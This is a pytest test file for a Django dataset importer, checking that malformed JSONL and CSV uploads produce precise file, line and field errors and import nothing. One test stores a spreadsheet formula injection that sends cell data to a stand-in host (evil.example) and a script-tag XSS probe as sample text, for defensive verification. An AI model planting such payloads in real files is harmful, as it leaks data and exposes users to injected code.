"""Bad dataset files: each gives a clear error naming file, line and field, and the database is left unchanged."""
from __future__ import annotations

import io
import tracemalloc
from pathlib import Path

import pytest
from django.core.management.base import CommandError
from django.test import Client

from hume.lib.import_reader import ImportFailed
from tasks_app.importing import ImportOptions, import_task
from tasks_app.models import Item, Task
from tests.import_samples import SAMPLES, cli_import, counts, csv_bytes, jsonl, upload, write

pytestmark = pytest.mark.django_db


def refused(path: Path, name: str = "T", kind: str = "classification", **options: str) -> str:
    """Import that must fail: returns the error text and checks that nothing changed."""
    before = counts()
    with pytest.raises(CommandError) as failure:
        cli_import(path, name, kind, **options)
    assert counts() == before
    return str(failure.value)


def sts_lines(n: int) -> list[dict]:
    return [{"id": f"s{i}", "sentence1": f"one {i}", "sentence2": f"two {i}", "score": 2.5} for i in range(1, n + 1)]


def test_an_sts_score_outside_the_scale_names_file_line_and_field(tmp_path: Path) -> None:
    records = sts_lines(7)
    records[6]["score"] = 5.5
    error = refused(write(tmp_path / "data.jsonl", jsonl(records)), kind="sts", scale="0,5")
    assert 'data.jsonl line 7, field "score": 5.5 is outside the scale 0–5' in error
    assert not Task.objects.exists()


def test_a_truncated_json_line_is_reported_as_truncated(tmp_path: Path) -> None:
    content = b'{"text": "fine", "label": "pos"}\n{"text": "cut off here", "lab\n'
    error = refused(write(tmp_path / "data.jsonl", content), labels="pos,neg")
    assert "data.jsonl line 2: invalid JSON" in error
    assert "truncated" in error


@pytest.mark.parametrize(("record", "field", "message"), [
    ({"text": 42, "label": "pos"}, "text", "must be a string, got int"),
    ({"text": "ok", "label": ["pos"]}, "label", "must be a label string, got list"),
    ({"text": ["a", "b"]}, "text", "must be a string, got list"),
    ({"label": "pos"}, "text", "is required"),
])
def test_wrong_field_types_name_the_field(tmp_path: Path, record: dict, field: str, message: str) -> None:
    content = jsonl([{"text": "fine", "label": "neg"}, record])
    error = refused(write(tmp_path / "data.jsonl", content), labels="pos,neg")
    assert f'data.jsonl line 2, field "{field}": {message}' in error


def test_wrong_types_in_nested_kinds_name_the_nested_field(tmp_path: Path) -> None:
    record = {"query": "q", "documents": [{"id": "d1", "text": "t", "score": "high"}]}
    error = refused(write(tmp_path / "g.jsonl", jsonl([record])), kind="graded_relevance")
    assert """g.jsonl line 1, field "documents[0].score": must be a number, got 'high'""" in error


def test_an_unknown_label_is_refused(tmp_path: Path) -> None:
    content = jsonl([{"text": "a", "label": "pos"}, {"text": "b", "label": "positive"}])
    error = refused(write(tmp_path / "data.jsonl", content), labels="pos,neg")
    expected = """data.jsonl line 2, field "label": unknown label 'positive'; the task's labels are ['pos', 'neg']"""
    assert expected in error


def test_duplicate_ids_within_a_file_are_refused(tmp_path: Path) -> None:
    content = jsonl([{"id": "x1", "text": "a"}, {"id": "x2", "text": "b"}, {"id": "x1", "text": "c"}])
    error = refused(write(tmp_path / "data.jsonl", content), labels="pos,neg")
    assert """data.jsonl line 3, field "id": duplicate id 'x1' (first on line 1)""" in error


def test_duplicate_content_within_a_file_is_refused(tmp_path: Path) -> None:
    content = jsonl([{"id": "x1", "text": "same"}, {"id": "x2", "text": "other"}, {"id": "x3", "text": "same"}])
    error = refused(write(tmp_path / "data.jsonl", content), labels="pos,neg")
    assert "data.jsonl line 3: duplicate item: the same content as line 1" in error


@pytest.mark.parametrize("content", [b"", b"\n  \n\n"])
def test_an_empty_file_is_refused(tmp_path: Path, content: bytes) -> None:
    error = refused(write(tmp_path / "empty.jsonl", content), labels="pos,neg")
    assert "empty.jsonl: the file has no items" in error


def test_a_csv_with_only_a_header_is_refused(tmp_path: Path) -> None:
    error = refused(write(tmp_path / "empty.csv", b"text,label\n"), labels="pos,neg")
    assert "empty.csv: the file has no items" in error


def test_non_utf8_bytes_name_the_line_and_byte_offset(tmp_path: Path) -> None:
    good = b'{"text": "fine"}\n'
    content = good + good.replace(b"fine", b"also fine") + b'{"text": "caf\xe9"}\n'
    error = refused(write(tmp_path / "latin1.jsonl", content), labels="pos,neg")
    offset = len(good) * 2 + len(b"also ") + len(b'{"text": "caf')
    assert f"latin1.jsonl line 3: is not valid UTF-8: byte offset {offset} in the file (column 14 of the line" in error


def test_a_50_mb_line_is_refused_without_reading_it_whole(tmp_path: Path) -> None:
    path = tmp_path / "huge.jsonl"
    with path.open("wb") as f:
        f.write(b'{"text": "small", "label": "pos"}\n{"text": "')
        for _ in range(50):
            f.write(b"x" * (1024 * 1024))
        f.write(b'", "label": "pos"}\n{"text": "after", "label": "neg"}\n')
    tracemalloc.start()
    try:
        error = refused(path, labels="pos,neg")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "huge.jsonl line 2: the line is longer than the limit of 1,048,576 bytes" in error
    assert peak < 8 * 1024 * 1024  # about one line's worth of buffers, never the 50 MB


def test_the_line_limit_is_exact(tmp_path: Path, settings) -> None:
    settings.MAX_IMPORT_LINE_BYTES = 40
    at_limit = b'{"text": "' + b"a" * 28 + b'"}'
    assert len(at_limit) == 40
    cli_import(write(tmp_path / "ok.jsonl", at_limit + b"\n"), "ok", "classification", labels="x")
    error = refused(write(tmp_path / "over.jsonl", at_limit[:-2] + b'a"}\n'), labels="x")
    assert "over.jsonl line 1: the line is longer than the limit of 40 bytes" in error


def test_nul_characters_and_broken_surrogates_are_named_not_crashed_on(tmp_path: Path) -> None:
    content = b'{"text": "a\\u0000b"}\n{"sentences": ["x", "y"]}\n'
    error = refused(write(tmp_path / "nul.jsonl", content), labels="x")
    assert 'nul.jsonl line 1, field "text": contains a NUL character' in error
    content = b'{"sentences": ["ok", "bad \\ud800 escape"]}\n'
    error = refused(write(tmp_path / "sur.jsonl", content), kind="clustering")
    assert 'sur.jsonl line 1, field "sentences[1]": contains an unpaired surrogate' in error


def test_a_line_that_is_not_an_object_is_refused(tmp_path: Path) -> None:
    error = refused(write(tmp_path / "list.jsonl", b'["text", "label"]\n'), labels="x")
    assert "list.jsonl line 1: each line must be a JSON object, got list" in error


def test_csv_problems_name_line_and_column(tmp_path: Path) -> None:
    error = refused(write(tmp_path / "cols.csv", csv_bytes(["text", "lable"], [["a", "pos"]])), labels="pos")
    assert ("cols.csv line 1, field \"lable\": unknown column(s) lable; the columns are id, text, label, system, "
            "group") in error
    error = refused(write(tmp_path / "miss.csv", csv_bytes(["sentence1", "score"], [["a", "1"]])), kind="sts")
    assert 'miss.csv line 1, field "sentence2": the header lacks the column(s) sentence2' in error
    error = refused(write(tmp_path / "cells.csv", b"text,label\na,pos\nb,pos,extra\n"), labels="pos")
    assert "cells.csv line 3: has 3 cells but the header has 2 columns" in error


def test_csv_is_refused_for_nested_kinds(tmp_path: Path) -> None:
    error = refused(write(tmp_path / "k.csv", b"sentences\nx\n"), kind="clustering")
    assert 'k.csv, option "format": CSV is not supported for clustering tasks (nested fields): use JSONL' in error


def test_a_classification_task_needs_some_labels(tmp_path: Path) -> None:
    error = refused(write(tmp_path / "nolabels.jsonl", jsonl([{"text": "a"}, {"text": "b"}])))
    assert 'nolabels.jsonl, option "labels": no label set' in error


@pytest.mark.parametrize(("options", "field", "message"), [
    ({"kind": "likert"}, "axes", "a likert task needs its axes"),
    ({"kind": "sts", "scale": "5,0"}, "scale", "MIN must be below MAX"),
    ({"kind": "sts", "scale": "zero,five"}, "scale", "must be MIN,MAX"),
    ({"kind": "sts", "step": "-1"}, "step", "must be a positive number"),
    ({"kind": "classification", "axes": "a,b"}, "axes", "only likert tasks have axes"),
    ({"kind": "pairwise", "labels": "a,b"}, "labels", "only classification tasks have labels"),
    ({"kind": "classification", "labels": "a,b,a"}, "labels", "lists a more than once"),
    ({"kind": "sts", "language": "english"}, "language", "Use an MTEB-style language code"),
])
def test_bad_options_name_the_option(tmp_path: Path, options: dict, field: str, message: str) -> None:
    options = {"kind": "classification", "language": "eng-Latn", **options}
    before = counts()
    with pytest.raises(CommandError) as failure:
        cli_import(write(tmp_path / "x.jsonl", jsonl([{"text": "t"}])), "T", **options)
    assert f'x.jsonl, option "{field}": ' in str(failure.value)
    assert message in str(failure.value)
    assert counts() == before


def test_errors_are_collected_up_to_twenty(tmp_path: Path) -> None:
    records = [{"text": i} for i in range(30)]
    error = refused(write(tmp_path / "many.jsonl", jsonl(records)), labels="x")
    assert error.count('field "text": must be a string') == 20
    assert "many.jsonl: stopped after 20 problems" in error


def test_a_bad_line_at_the_end_of_a_large_file_imports_nothing(tmp_path: Path) -> None:
    records = [{"text": f"item {i}", "label": "pos"} for i in range(4500)] + [{"text": "last", "label": "bad"}]
    error = refused(write(tmp_path / "big.jsonl", jsonl(records)), labels="pos,neg")
    assert "big.jsonl line 4501, field \"label\"" in error
    assert not Item.objects.exists()


def test_a_bad_file_changes_nothing_in_an_existing_task(tmp_path: Path) -> None:
    _, records, _ = SAMPLES["classification"]
    cli_import(write(tmp_path / "good.jsonl", jsonl(records)), "T", "classification", labels="pos,neg")
    instructions = write(tmp_path / "new.md", b"New instructions")
    bad = jsonl([*records, {"id": "c9", "text": "new", "label": "neutral"}])
    refused(write(tmp_path / "bad.jsonl", bad), labels="pos,neg", instructions=str(instructions))
    assert Task.objects.get(name="T").instructions == ""


def test_html_and_formulas_are_stored_exactly_as_given(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    script = "<script>alert('x')</script><b>bold</b>"
    content = csv_bytes(["id", "text", "label"], [["f", formula, "pos"], ["h", script, "neg"], ["n", "-3.5", "pos"]])
    cli_import(write(tmp_path / "odd.csv", content), "Odd", "classification")
    stored = dict(Item.objects.values_list("external_id", "payload"))
    assert stored == {"f": {"text": formula}, "h": {"text": script}, "n": {"text": "-3.5"}}


def test_the_import_function_reports_problems_as_values() -> None:
    options = ImportOptions(name="T", kind="sts", language="eng-Latn")
    with pytest.raises(ImportFailed) as failure:
        import_task(io.BytesIO(b'{"sentence1": "a", "sentence2": "b", "score": 9}\n'), "s.jsonl", options)
    assert [p.as_dict() for p in failure.value.problems] == [
        {"file": "s.jsonl", "line": 1, "field": "score", "message": "9 is outside the scale 0–5"}]


def test_the_upload_page_shows_errors_and_imports_nothing(client: Client, carol) -> None:
    client.force_login(carol)
    before = counts()
    content = jsonl([{"text": "fine", "label": "pos"}, {"text": "x", "label": "nope"}])
    response = client.post("/tasks/import/", {"file": upload("bad.jsonl", content), "name": "T",
                                              "kind": "classification", "language": "eng-Latn", "labels": "pos,neg"})
    assert response.status_code == 400
    assert "Nothing was imported" in response.content.decode()
    assert """bad.jsonl line 2, field &quot;label&quot;: unknown label &#x27;nope&#x27;""" in response.content.decode()
    assert counts() == before


def test_the_api_answers_400_with_file_line_field_and_message(client: Client, carol) -> None:
    client.force_login(carol)
    before = counts()
    content = jsonl(sts_lines(2)) + b'{"sentence1": "a", "sentence2": "b", "score": 7}\n'
    response = client.post("/api/v1/tasks/import/", {"file": upload("data.jsonl", content), "name": "T",
                                                     "kind": "sts", "language": "eng-Latn"})
    assert response.status_code == 400
    assert response.json() == {"errors": [{"file": "data.jsonl", "line": 3, "field": "score",
                                           "message": "7 is outside the scale 0–5"}]}
    assert counts() == before


def test_the_api_reports_missing_options_in_the_same_shape(client: Client, carol) -> None:
    client.force_login(carol)
    response = client.post("/api/v1/tasks/import/", {"file": upload("d.jsonl", b'{"text": "a"}\n'),
                                                     "kind": "classification", "language": "eng-Latn"})
    assert response.status_code == 400
    assert response.json()["errors"] == [{"file": "d.jsonl", "line": None, "field": "name",
                                          "message": "This field is required."}]

